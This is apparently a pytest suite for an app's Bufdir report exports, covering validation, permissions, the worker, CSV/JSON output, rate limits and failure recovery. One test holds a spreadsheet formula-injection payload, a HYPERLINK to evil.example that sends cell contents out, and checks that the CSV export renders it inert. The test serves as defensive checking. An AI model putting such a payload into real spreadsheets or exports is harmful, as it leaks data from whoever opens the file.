"""Bufdir exports: queueing, the worker (fed by recorded stream records), rows, summary, formats,
failures and the monthly schedule."""

from __future__ import annotations

import csv
import io
import json
import urllib.request

import pytest

from tests.helpers import Api, Person, make_user
from tests.stream_helpers import JOBS_WORKER, consume, recorded, run_jobs

WORKER = JOBS_WORKER
NOVEMBER = {"period_start": "2026-11-01", "period_end": "2026-11-30"}


def run_worker(api: Api, org_id: str) -> dict:
    return run_jobs(api, org_id, "EXPORT")


def download(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.read()


def activity(api: Api, who: Person, reviewer: Person, *, approve: bool = True, **fields) -> dict:
    body = {"activity_date": "2026-11-02", "activity_type": "home_visit", "duration_minutes": 60, **fields}
    created = api.call("POST", "/api/activities", who, body).body
    if approve:
        api.call("POST", f"/api/activities/{created['id']}/review", reviewer, {"action": "approve"})
    return created


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        ({"period_start": "2026-11-30", "period_end": "2026-11-01"}, "period_end_not_before_start"),
        ({"period_start": "2025-01-01", "period_end": "2026-01-02"}, "period_at_most_366_days"),
        ({"period_start": "2026-02-30", "period_end": "2026-03-01"}, "period_valid_dates"),
        ({"period_start": "1.11.2026", "period_end": "2026-11-30"}, "string_pattern_mismatch"),
        ({**NOVEMBER, "format": "xlsx"}, "must_be_one_of"),
        ({"period_start": "2026-11-01"}, "required"),
    ],
)
def test_export_requests_are_validated(api: Api, org_id: str, body, rule: str):
    reply = api.call("POST", "/api/exports/bufdir", make_user(api, org_id, "coordinator"), body)
    assert reply.status == 400 and rule in reply.rules


def test_a_leap_year_fits_in_366_days(api: Api, org_id: str):
    reply = api.call("POST", "/api/exports/bufdir", make_user(api, org_id, "admin"), {"period_start": "2028-01-01", "period_end": "2028-12-31"})
    assert reply.status == 202 and reply.body["status"] == "pending"


def test_only_coordinators_and_admins_export(api: Api, org_id: str):
    for role in ("member", "moderator"):
        who = make_user(api, org_id, role)
        assert api.call("POST", "/api/exports/bufdir", who, NOVEMBER).status == 403
        assert api.call("GET", "/api/exports", who).status == 403


def test_the_worker_exports_exactly_the_rows_that_count(api: Api, org_id: str):
    admin, mentor, other = make_user(api, org_id, "admin"), make_user(api, org_id), make_user(api, org_id)
    counted = activity(api, mentor, admin, summary='Visited, talked about "school", then\nwalked, slowly; ok')
    group = activity(api, other, admin, activity_type="group_activity", is_group_activity=True, participant_count=4, activity_date="2026-11-03")
    activity(api, mentor, admin, approve=False, activity_date="2026-11-04")  # under review
    activity(api, mentor, admin, activity_type="phone_call", activity_date="2026-11-05")  # no Bufdir category
    activity(api, mentor, admin, activity_date="2026-10-31")  # before the period
    gone = activity(api, mentor, admin, activity_date="2026-11-06")
    api.call("DELETE", f"/api/activities/{gone['id']}", admin)
    excluded = activity(api, mentor, admin, activity_date="2026-11-07")
    api.call("PATCH", f"/api/activities/{excluded['id']}", admin, {"bufdir_excluded": True})
    queued = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER)
    assert queued.status == 202 and queued.body["status"] == "pending"
    assert run_worker(api, org_id) == {"batchItemFailures": []}
    done = api.call("GET", f"/api/exports/{queued.body['id']}", admin).body
    assert done["status"] == "done" and done["row_count"] == 2 and done["url"]
    assert done["summary"] == {
        "categories": {
            "group": {"activity_count": 1, "activity_days": 1, "participants": 4, "duration_minutes": 60},
            "outreach": {"activity_count": 1, "activity_days": 1, "participants": 1, "duration_minutes": 60},
        },
        "active_mentors": 2,
    }
    rows = list(csv.DictReader(io.StringIO(download(done["url"]).decode("utf-8"), newline="")))
    assert [r["id"] for r in rows] == [counted["id"], group["id"]]
    assert rows[0]["summary"] == counted["summary"] and rows[0]["bufdir_category"] == "outreach" and rows[1]["participants"] == "4"
    listed = api.call("GET", "/api/exports", admin).body["items"]
    assert [e["id"] for e in listed] == [queued.body["id"]] and "url" not in listed[0]


def test_an_export_applies_the_rules_with_the_category_each_activity_has_at_export_time(api: Api, org_id: str):
    admin, mentor = make_user(api, org_id, "admin"), make_user(api, org_id)
    short_visit = activity(api, mentor, admin, duration_minutes=15)  # eligible as outreach when approved
    call = activity(api, mentor, admin, activity_type="phone_call", activity_date="2026-11-05")  # not counted when approved
    assert (short_visit["bufdir_eligible"], call["bufdir_eligible"]) == (True, False)
    api.call("PATCH", "/api/organization", admin, {"activity_type_categories": {"home_visit": "group", "phone_call": "outreach"}})
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    run_worker(api, org_id)
    done = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert done["row_count"] == 1 and done["summary"]["categories"] == {"outreach": {"activity_count": 1, "activity_days": 1, "participants": 1, "duration_minutes": 60}}
    (row,) = csv.DictReader(io.StringIO(download(done["url"]).decode("utf-8"), newline=""))
    assert (row["id"], row["bufdir_category"]) == (call["id"], "outreach")


def test_every_change_of_an_activity_recomputes_bufdir_eligible_with_the_mapping_now(api: Api, org_id: str):
    admin, mentor = make_user(api, org_id, "admin"), make_user(api, org_id)
    visit = activity(api, mentor, admin, approve=False, duration_minutes=15)
    api.call("PATCH", "/api/organization", admin, {"activity_type_categories": {"home_visit": "group"}})
    approved = api.call("POST", f"/api/activities/{visit['id']}/review", admin, {"action": "approve"}).body
    assert (visit["bufdir_eligible"], approved["bufdir_eligible"]) == (True, False)


def test_csv_is_rfc4180(api: Api, org_id: str):
    admin = make_user(api, org_id, "admin")
    tricky = 'Ærlig talt, "sa hun"\r\nny linje; ø'
    activity(api, admin, admin, summary=tricky)
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    run_worker(api, org_id)
    raw = download(api.call("GET", f"/api/exports/{export_id}", admin).body["url"])
    assert raw.split(b"\r\n", 1)[0].startswith(b"id,activity_date,local_date")
    (row,) = csv.DictReader(io.StringIO(raw.decode("utf-8"), newline=""))
    assert row["summary"] == tricky


def test_a_formula_in_a_summary_reaches_the_csv_inert_and_the_json_as_written(api: Api, org_id: str):
    admin = make_user(api, org_id, "admin")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    activity(api, admin, admin, summary=formula)
    as_csv = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    run_worker(api, org_id)
    raw = download(api.call("GET", f"/api/exports/{as_csv}", admin).body["url"])
    (row,) = csv.DictReader(io.StringIO(raw.decode("utf-8"), newline=""))
    assert row["summary"] == "'" + formula and b'"\'=HYPERLINK(""http' in raw
    as_json = api.call("POST", "/api/exports/bufdir", admin, {**NOVEMBER, "format": "json"}).body["id"]
    run_worker(api, org_id)
    document = json.loads(download(api.call("GET", f"/api/exports/{as_json}", admin).body["url"]))
    assert document["rows"][0]["summary"] == formula


def test_json_export_and_a_test_organization_has_no_rows(api: Api, org_id: str):
    admin = make_user(api, org_id, "admin")
    activity(api, admin, admin)
    as_json = api.call("POST", "/api/exports/bufdir", admin, {**NOVEMBER, "format": "json"}).body["id"]
    run_worker(api, org_id)
    document = json.loads(download(api.call("GET", f"/api/exports/{as_json}", admin).body["url"]))
    assert len(document["rows"]) == 1 and document["summary"]["active_mentors"] == 1 and document["export"]["period_start"] == "2026-11-01"
    api.call("PATCH", "/api/organization", admin, {"is_test_organization": True})
    test_run = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    run_worker(api, org_id)
    result = api.call("GET", f"/api/exports/{test_run}", admin).body
    assert result["status"] == "done" and result["row_count"] == 0 and result["summary"] == {"categories": {}, "active_mentors": 0}


def test_a_failure_ends_failed_with_a_reason_for_people_the_detail_in_the_logs_and_redelivery_does_not_rerun(api: Api, org_id: str, monkeypatch):
    import sys

    from botocore.exceptions import ClientError

    from activity_tracker.bufdir import worker

    admin = make_user(api, org_id, "admin")
    activity(api, admin, admin)
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    inside = "User: arn:aws:sts::123456789012:assumed-role/JobsWorkerRole/x is not authorized to perform: s3:PutObject on resource: arn:aws:s3:::exports-bucket/exports/secret"

    def broken(*args, **kwargs):
        raise ClientError({"Error": {"Code": "AccessDenied", "Message": inside}}, "PutObject")

    monkeypatch.setattr(worker, "activities", broken)
    logged: list[tuple[str, dict, str]] = []
    monkeypatch.setattr(worker.logger, "exception", lambda message, **fields: logged.append((message, fields["extra"], str(sys.exc_info()[1]))))
    run_worker(api, org_id)
    failed = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert failed["status"] == "failed" and failed["error"].startswith("ExportFailed:") and "url" not in failed
    shown = json.dumps([failed, api.call("GET", "/api/exports", admin).body])
    assert "arn:" not in shown and "AccessDenied" not in shown and "ClientError" not in shown and "bucket" not in shown
    assert logged == [("export failed", {"export": export_id, "organization": org_id}, f"An error occurred (AccessDenied) when calling the PutObject operation: {inside}")]  # the detail: logs only
    monkeypatch.undo()
    run_worker(api, org_id)  # the same record again: the export is not pending any more
    assert api.call("GET", f"/api/exports/{export_id}", admin).body["status"] == "failed"


def test_exports_are_tenant_scoped(api: Api, org_id: str):
    theirs = api.call("POST", "/api/exports/bufdir", make_user(api, org_id + "-b", "admin"), NOVEMBER).body["id"]
    mine = make_user(api, org_id, "admin")
    assert api.call("GET", f"/api/exports/{theirs}", mine).status == 404
    assert api.call("GET", "/api/exports", mine).body["items"] == []


def test_the_schedule_queues_last_month_for_every_real_organization_once(api: Api, org_id: str):
    from datetime import UTC, datetime

    from activity_tracker.bufdir import handlers, worker

    real, test_org = make_user(api, org_id, "admin"), make_user(api, org_id + "-test", "admin")
    api.call("PATCH", "/api/organization", test_org, {"is_test_organization": True})
    first = handlers.schedule_handler({}, None)
    again = handlers.schedule_handler({}, None)
    assert org_id in first["queued"] and org_id + "-test" not in first["queued"] and org_id not in again["queued"]
    start, end = worker.previous_month("Europe/Oslo")
    listed = api.call("GET", "/api/exports", real).body["items"]
    assert [(e["period_start"], e["period_end"], e["scheduled"]) for e in listed] == [(start, end, True)]
    assert api.call("GET", "/api/exports", test_org).body["items"] == []
    assert worker.previous_month("Europe/Oslo", datetime(2026, 1, 1, 0, 30, tzinfo=UTC)) == ("2025-12-01", "2025-12-31")
    assert worker.previous_month("Europe/Oslo", datetime(2026, 3, 31, 23, 30, tzinfo=UTC)) == ("2026-03-01", "2026-03-31")


def test_a_run_taken_over_as_stale_does_not_overwrite_the_newer_result(api: Api, org_id: str):
    from activity_tracker.bufdir import worker
    from activity_tracker.repository import exports

    admin = make_user(api, org_id, "admin")
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    old_run = exports.get(org_id, export_id)
    assert worker.claim(old_run)
    new_run = exports.get(org_id, export_id)
    new_run.update(actions=[exports.ExportItem.started_at.set("2000-01-01T00:00:00.000Z")])  # the first run looks stale
    assert worker.claim(new_run)
    worker.run(new_run)
    worker.run(old_run)  # the slow first run finishes last
    final = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert final["status"] == "done" and final["finished_at"] and exports.get(org_id, export_id).started_at == new_run.started_at


def test_an_export_near_the_time_limit_ends_failed_in_time_and_uploads_nothing(api: Api, org_id: str):
    from types import SimpleNamespace

    import boto3

    from activity_tracker.settings import get_settings
    from activity_tracker.stream import jobs

    admin = make_user(api, org_id, "admin")
    activity(api, admin, admin)
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    (record,) = recorded(api.stack, org_id, WORKER)
    nearly_over = SimpleNamespace(get_remaining_time_in_millis=lambda: 30_000, aws_request_id="r", function_name="f")
    assert jobs.handler({"Records": [record]}, nearly_over) == {"batchItemFailures": []}
    failed = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert failed["status"] == "failed" and failed["error"].startswith("TimeLimit:") and failed["finished_at"]
    listed = boto3.client("s3").list_objects_v2(Bucket=get_settings().exports_bucket, Prefix=f"exports/{org_id}/{export_id}")
    assert listed.get("KeyCount", 0) == 0


def test_a_run_that_died_while_running_reads_as_failed_and_can_be_claimed_again(api: Api, org_id: str):
    from activity_tracker.bufdir import worker
    from activity_tracker.repository import exports

    admin = make_user(api, org_id, "admin")
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    dead = exports.get(org_id, export_id)
    assert worker.claim(dead)
    assert api.call("GET", f"/api/exports/{export_id}", admin).body["status"] == "running"  # a live run is not stale
    dead.update(actions=[exports.ExportItem.started_at.set("2026-11-01T00:00:00.000Z")])  # killed long ago
    shown = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert shown["status"] == "failed" and shown["error"].startswith("WorkerStopped:")
    assert [(e["status"], e["error"][:14]) for e in api.call("GET", "/api/exports", admin).body["items"]] == [("failed", "WorkerStopped:")]
    again = exports.get(org_id, export_id)
    assert worker.claim(again)
    worker.run(again)
    assert api.call("GET", f"/api/exports/{export_id}", admin).body["status"] == "done"


def test_a_large_file_goes_up_in_parts_holding_one_part_at_a_time():
    import boto3

    from activity_tracker.bufdir.worker import PART_SIZE, MultipartWriter
    from activity_tracker.settings import get_settings

    s3 = boto3.client("s3")
    bucket, key = get_settings().exports_bucket, "exports/test/multipart.csv"
    writer = MultipartWriter(s3, bucket, key, "text/csv")
    chunk = bytes(range(256)) * 256  # 64 KiB
    held = 0
    for _ in range(200):  # 12.5 MiB: parts of 5, 5 and 2.5 MiB
        writer.write(chunk)
        held = max(held, writer.buffer.tell())
    writer.close()
    assert len(writer.parts) == 3 and held < PART_SIZE + len(chunk)
    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == chunk * 200

    aborted = MultipartWriter(s3, bucket, key + ".aborted", "text/csv")
    for _ in range(100):
        aborted.write(chunk)
    aborted.abort()
    assert s3.list_multipart_uploads(Bucket=bucket).get("Uploads", []) == [] and s3.list_objects_v2(Bucket=bucket, Prefix=key + ".aborted")["KeyCount"] == 0


# ---------------------------------------------------------------- limits of user requests
def test_one_pending_or_running_export_per_organization_beyond_it_429_with_retry_after(api: Api, org_id: str):
    from activity_tracker.bufdir import worker
    from activity_tracker.repository import exports

    admin, coordinator = make_user(api, org_id, "admin"), make_user(api, org_id, "coordinator")
    first = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER)
    assert first.status == 202
    busy = api.call("POST", "/api/exports/bufdir", coordinator, {**NOVEMBER, "format": "json"})
    assert (busy.status, busy.error["code"], busy.rules, busy.headers["retry-after"]) == (429, "rate_limited", ["one_export_at_a_time"], "30")
    assert api.call("POST", "/api/exports/bufdir", make_user(api, org_id + "-b", "admin"), NOVEMBER).status == 202  # per organization
    claimed = exports.get(org_id, first.body["id"])
    assert worker.claim(claimed)
    assert api.call("POST", "/api/exports/bufdir", coordinator, NOVEMBER).status == 429  # running holds the place too
    worker.run(claimed)
    second = api.call("POST", "/api/exports/bufdir", coordinator, NOVEMBER)
    assert second.status == 202  # done: the place is free
    dead = exports.get(org_id, second.body["id"])
    assert worker.claim(dead)
    dead.update(actions=[exports.ExportItem.started_at.set("2026-11-01T00:00:00.000Z")])  # its run was killed long ago
    assert api.call("POST", "/api/exports/bufdir", coordinator, NOVEMBER).status == 202
    assert len(api.call("GET", "/api/exports", admin).body["items"]) == 3


def test_racing_requests_queue_one_export(api: Api, org_id: str):
    import threading

    people = [make_user(api, org_id, "coordinator") for _ in range(6)]
    barrier, replies = threading.Barrier(len(people)), []

    def request(who: Person) -> None:
        barrier.wait()
        replies.append(api.call("POST", "/api/exports/bufdir", who, NOVEMBER))

    threads = [threading.Thread(target=request, args=(who,)) for who in people]
    [t.start() for t in threads]
    [t.join() for t in threads]
    assert sorted(r.status for r in replies) == [202] + [429] * 5
    assert len(api.call("GET", "/api/exports", people[0]).body["items"]) == 1


def test_a_daily_quota_per_organization_beyond_it_429_until_the_next_utc_day(api: Api, org_id: str, monkeypatch):
    from datetime import UTC, datetime, timedelta

    from activity_tracker.bufdir import handlers
    from activity_tracker.settings import get_settings

    monkeypatch.setattr(get_settings(), "exports_daily_quota", 2)
    admin = make_user(api, org_id, "admin")
    for _ in range(2):
        assert api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).status == 202
        run_worker(api, org_id)
    over = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER)
    now = datetime.now(UTC)
    midnight = (now + timedelta(days=1)).replace(hour=0, minute=0, second=0, microsecond=0)
    assert (over.status, over.rules) == (429, ["export_daily_quota"])
    assert abs(int(over.headers["retry-after"]) - (midnight - now).total_seconds()) < 5
    assert org_id in handlers.schedule_handler({}, None)["queued"]  # the schedule is not counted nor refused
    assert api.call("POST", "/api/exports/bufdir", make_user(api, org_id + "-b", "admin"), NOVEMBER).status == 202


# ---------------------------------------------------------------- never stuck
def records_of(api: Api, org_id: str, event: str) -> list[dict]:
    return [r for r in recorded(api.stack, org_id, WORKER) if r["eventName"] == event]


def queued_long_ago(org_id: str, export_id: str, minutes: int = 61) -> None:
    from datetime import UTC, datetime, timedelta

    from activity_tracker.clock import iso
    from activity_tracker.repository import exports

    exports.get(org_id, export_id).update(actions=[exports.ExportItem.queued_at.set(iso(datetime.now(UTC) - timedelta(minutes=minutes)))])


def test_a_pending_export_whose_record_never_reached_the_worker_is_redriven(api: Api, org_id: str):
    from activity_tracker.bufdir.sweep import sweep

    admin = make_user(api, org_id, "admin")
    activity(api, admin, admin)
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    assert export_id not in sweep().redriven  # pending for less than an hour: waiting, not stuck
    queued_long_ago(org_id, export_id)  # its INSERT was dropped (older than the stream's 24 h) or failed before the claim
    assert export_id in sweep().redriven  # (the sweep sees every organization: only this test's export is asserted on)
    assert consume(api, records_of(api, org_id, "MODIFY"), WORKER) == {"batchItemFailures": []}  # the re-drive reaches the worker
    done = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert done["status"] == "done" and done["row_count"] == 1
    assert export_id not in sweep().redriven + sweep().failed  # finished: out of the sweep's index


def test_a_pending_export_that_never_starts_ends_failed_and_frees_the_place(api: Api, org_id: str):
    from activity_tracker.bufdir.sweep import sweep
    from activity_tracker.rules.exports import MAX_REDRIVES

    admin = make_user(api, org_id, "admin")
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    for _ in range(MAX_REDRIVES):  # the worker never gets to claim it
        queued_long_ago(org_id, export_id)
        assert export_id in sweep().redriven
    assert export_id not in sweep().failed  # just re-driven
    queued_long_ago(org_id, export_id)
    assert export_id in sweep().failed
    failed = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert failed["status"] == "failed" and failed["error"].startswith("NotStarted:") and failed["finished_at"]
    assert export_id not in sweep().failed and api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).status == 202


def test_a_running_export_whose_run_died_is_written_failed_by_the_sweep(api: Api, org_id: str):
    from activity_tracker.bufdir import worker
    from activity_tracker.bufdir.sweep import sweep
    from activity_tracker.repository import exports

    admin = make_user(api, org_id, "admin")
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    dead = exports.get(org_id, export_id)
    assert worker.claim(dead)
    assert export_id not in sweep().failed  # a live run
    dead.update(actions=[exports.ExportItem.started_at.set("2026-11-01T00:00:00.000Z")])
    assert export_id in sweep().failed
    stored = exports.get(org_id, export_id)
    assert (stored.status, stored.error[:14], stored.gsi4pk) == ("failed", "WorkerStopped:", None)


def test_a_rerun_of_the_schedule_queues_again_a_failed_or_stuck_month(api: Api, org_id: str, monkeypatch):
    from activity_tracker.bufdir import handlers, worker
    from activity_tracker.repository import exports

    admin = make_user(api, org_id, "admin")
    assert org_id in handlers.schedule_handler({}, None)["queued"]
    (scheduled,) = api.call("GET", "/api/exports", admin).body["items"]
    again = handlers.schedule_handler({}, None)
    assert org_id not in again["queued"] + again["requeued"]  # pending since just now: not stuck
    monkeypatch.setattr(worker, "activities", lambda *args: (_ for _ in ()).throw(OSError("disk on fire")))
    run_worker(api, org_id)
    assert api.call("GET", f"/api/exports/{scheduled['id']}", admin).body["status"] == "failed"
    monkeypatch.undo()
    assert org_id in handlers.schedule_handler({}, None)["requeued"]
    requeued = exports.get(org_id, scheduled["id"])
    assert (requeued.status, requeued.error, requeued.started_at, requeued.redrives) == ("pending", None, None, 0)
    consume(api, records_of(api, org_id, "MODIFY")[-1:], WORKER)  # the MODIFY back to pending reaches the worker
    assert api.call("GET", f"/api/exports/{scheduled['id']}", admin).body["status"] == "done"
    assert org_id not in handlers.schedule_handler({}, None)["requeued"]  # done stays done
    stuck = exports.get(org_id, scheduled["id"])
    stuck.update(actions=[exports.ExportItem.status.set("pending"), exports.ExportItem.queued_at.set("2026-11-01T00:00:00.000Z")])
    assert org_id in handlers.schedule_handler({}, None)["requeued"]  # pending for a month: stuck


def test_an_export_whose_file_the_lifecycle_deleted_reads_expired_without_url(api: Api, org_id: str):
    from datetime import UTC, datetime, timedelta

    from activity_tracker.clock import iso
    from activity_tracker.repository import exports

    admin = make_user(api, org_id, "admin")
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    run_worker(api, org_id)
    assert api.call("GET", f"/api/exports/{export_id}", admin).body["url"]
    exports.get(org_id, export_id).update(actions=[exports.ExportItem.started_at.set(iso(datetime.now(UTC) - timedelta(days=90, minutes=1)))])
    expired = api.call("GET", f"/api/exports/{export_id}", admin).body
    assert expired["status"] == "expired" and "url" not in expired and expired["row_count"] == 0
    assert [e["status"] for e in api.call("GET", "/api/exports", admin).body["items"]] == ["expired"]


def test_each_link_to_an_export_is_logged_with_who_asked_and_a_hash_of_its_signature(api: Api, org_id: str, monkeypatch):
    import hashlib
    from urllib.parse import parse_qs, urlsplit

    from activity_tracker.logic import exports

    admin, coordinator = make_user(api, org_id, "admin"), make_user(api, org_id, "coordinator")
    export_id = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    run_worker(api, org_id)
    logged: list[tuple[str, dict]] = []
    monkeypatch.setattr(exports.logger, "info", lambda message, **fields: logged.append((message, fields["extra"])))
    url = api.call("GET", f"/api/exports/{export_id}", coordinator).body["url"]
    query = parse_qs(urlsplit(url).query)
    signature = (query.get("X-Amz-Signature") or query["Signature"])[0]
    ((message, fields),) = logged
    assert message == "export link issued" and (fields["export"], fields["organization"], fields["user"]) == (export_id, org_id, coordinator.sub)
    assert fields["signature_sha256"] == hashlib.sha256(signature.encode()).hexdigest() and signature not in str(fields)
    api.call("GET", "/api/exports", coordinator)  # a list gives no links, so logs none
    assert len(logged) == 1
def test_reading_done_exports_presigns_with_one_s3_client_per_container(api: Api, org_id: str, monkeypatch):
    import botocore.session

    admin = make_user(api, org_id, "admin")
    activity(api, admin, admin)
    queued = api.call("POST", "/api/exports/bufdir", admin, NOVEMBER).body["id"]
    assert run_worker(api, org_id) == {"batchItemFailures": []}
    made: list[str] = []
    original = botocore.session.Session.create_client

    def counting(self, service_name, *args, **kwargs):  # type: ignore[no-untyped-def]
        made.append(service_name)
        return original(self, service_name, *args, **kwargs)

    monkeypatch.setattr(botocore.session.Session, "create_client", counting)
    urls = [api.call("GET", f"/api/exports/{queued}", admin).body["url"] for _ in range(3)]
    assert all(urls) and made.count("s3") <= 1  # the first read in this process may make it; no read makes another
